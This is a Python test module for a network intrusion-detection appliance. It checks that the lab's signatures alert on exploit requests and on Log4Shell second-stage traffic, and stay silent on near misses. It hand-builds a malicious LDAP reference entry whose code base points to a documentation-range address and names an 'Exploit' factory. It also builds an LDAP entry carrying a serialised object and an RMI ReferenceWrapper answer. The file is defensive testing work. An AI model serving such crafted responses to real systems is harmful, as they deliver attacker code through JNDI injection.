"""Cases for our own signatures: the lab's attack definitions on the wire, and what is not HTTP."""

from collections import Counter
from collections.abc import Iterator, Sequence
from itertools import groupby

from scapy.packet import Packet

from appliance.lab.definitions import AttackFile, AttackRequest, load_attacks
from tests.tools.cases import Case
from tests.tools.wire import CLIENT, SERVER, Path2, Tcp, exchange

# The guest asks, the attacker's server answers.
OUTGOING = Path2(client=SERVER, server=CLIENT)


def cases() -> Iterator[Case]:
    """Return every case of this family."""
    for file in load_attacks():
        yield from of_attack(file)
    yield from second_stage()


def of_attack(file: AttackFile) -> Iterator[Case]:
    """One case for the plain exploits, one a family of obfuscation, one for all that must stay silent."""

    def key(request: AttackRequest) -> str:
        if request.kind == "exploit":
            return "exploit"
        return f"obfuscated-{request.family}" if request.kind == "obfuscated" else "near-miss"

    attack = file.attack
    for group, members in groupby(sorted(attack.requests, key=key), key):
        chosen = list(members)
        names = ", ".join(request.name for request in chosen)
        silent = group == "near-miss"
        yield Case(
            name=f"{file.stem}-{group}",
            purpose=f"{attack.name} ({attack.cve}, {attack.product}), one connection a request: {names}.",
            why=(
                "No alert: ordinary requests, and near misses that share URL, place and characters with one."
                if silent
                else "Each request carries the exploit in a form the vulnerable software would act on, or is"
                " taken as an attempt at one; each raises what its entry in the attack file names."
            ),
            rules=attack.signatures,
            packets=connections(chosen),
            alerts=Counter(sid for request in chosen for sid in request.sids),
        )


def connections(chosen: Sequence[AttackRequest]) -> list[Packet]:
    """Return one connection a request, one after the other."""
    return [
        packet
        for number, request in enumerate(chosen)
        for packet in exchange(request.wire("web"), sport=41000 + number, dport=request.port)
    ]


def ber(tag: int, *parts: bytes) -> bytes:
    """Return one BER element; the length in the long form past 127."""
    content = b"".join(parts)
    size = len(content)
    length = bytes([size]) if size < 0x80 else b"\x82" + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def ldap_entry(name: bytes, **attributes: bytes) -> bytes:
    """Return an LDAP searchResultEntry followed by its searchResultDone."""
    rows = [ber(0x30, ber(4, key.encode()), ber(0x31, ber(4, value))) for key, value in attributes.items()]
    entry = ber(0x30, ber(2, b"\x02"), ber(0x64, ber(4, name), ber(0x30, *rows)))
    done = ber(0x30, ber(2, b"\x02"), ber(0x65, ber(10, b"\x00"), ber(4), ber(4)))
    return entry + done


def answered(ask: bytes, answer: bytes, *, sport: int, dport: int) -> list[Packet]:
    """Return one outgoing connection of the guest: a question and its answer."""
    return Tcp(OUTGOING, sport, dport).open().say(ask).say(answer, to_server=False).close().packets


def second_stage() -> Iterator[Case]:
    """Log4Shell's LDAP and RMI answers, and what a directory or registry says every day."""
    search = ber(0x30, ber(2, b"\x02"), ber(0x63, ber(4, b"a"), ber(10, b"\x00"), ber(10, b"\x03")))
    factory = ldap_entry(
        b"a",
        javaClassName=b"foo",
        javaCodeBase=b"http://192.0.2.10:8000/",
        objectClass=b"javaNamingReference",
        javaFactory=b"Exploit",
    )
    serialised = ldap_entry(
        b"a", javaClassName=b"java.lang.String", javaSerializedData=b"\xac\xed\x00\x05sr\x00\x00x"
    )
    person = ldap_entry(
        b"cn=ada", objectClass=b"inetOrgPerson", cn=b"Ada", description=b"wrote javaFactory notes"
    )
    string = ldap_entry(
        b"cn=s", javaClassName=b"java.lang.String", description=b"javaSerializedData is not here"
    )
    call = b"P\xac\xed\x00\x05w\x22" + bytes(34) + b"t\x00\x01a"
    answer = b"Q\xac\xed\x00\x05w\x0f\x01" + bytes(14)
    reference = answer + b"sr\x00*com.sun.jndi.rmi.registry.ReferenceWrapper_Stub" + bytes(16)
    stub = answer + b"s}\x00\x00\x00\x02\x00\x0fjava.rmi.Remote\x00\x05IData" + bytes(16)
    text = b"HTTP/1.1 200 OK\r\n\r\nsee com.sun.jndi.rmi.registry.ReferenceWrapper\n"

    yield Case(
        "log4shell-second-stage-exploit",
        "The answers that bring the code: an LDAP entry naming a factory, one with a serialised object, an"
        " RMI reference. The guest is the client.",
        "Whatever carried the lookup in, the guest now receives a class's location or a serialised object"
        " from a server it was told to ask.",
        "log4shell-second-stage.rules",
        answered(search, factory, sport=42000, dport=1389)
        + answered(search, serialised, sport=42001, dport=389)
        + answered(call, reference, sport=42002, dport=1099),
        {9000021: 1, 9000022: 1, 9000023: 1},
    )
    yield Case(
        "log4shell-second-stage-near-miss",
        "LDAP entries and RMI answers without a factory, a serialised object or a reference; and the"
        " exploit's own answer on its way to somebody else.",
        "No alert: the words alone are not the attributes, an ordinary stub is no reference, and a guest that"
        " serves a Java directory is not the one attacked.",
        "log4shell-second-stage.rules",
        answered(search, person, sport=42010, dport=389)
        + answered(search, string, sport=42011, dport=389)
        + answered(call, stub, sport=42012, dport=1099)
        + answered(b"GET / HTTP/1.0\r\n\r\n", text, sport=42013, dport=8080)
        + Tcp(sport=42014, dport=389).open().say(search).say(factory, to_server=False).close().packets,
    )
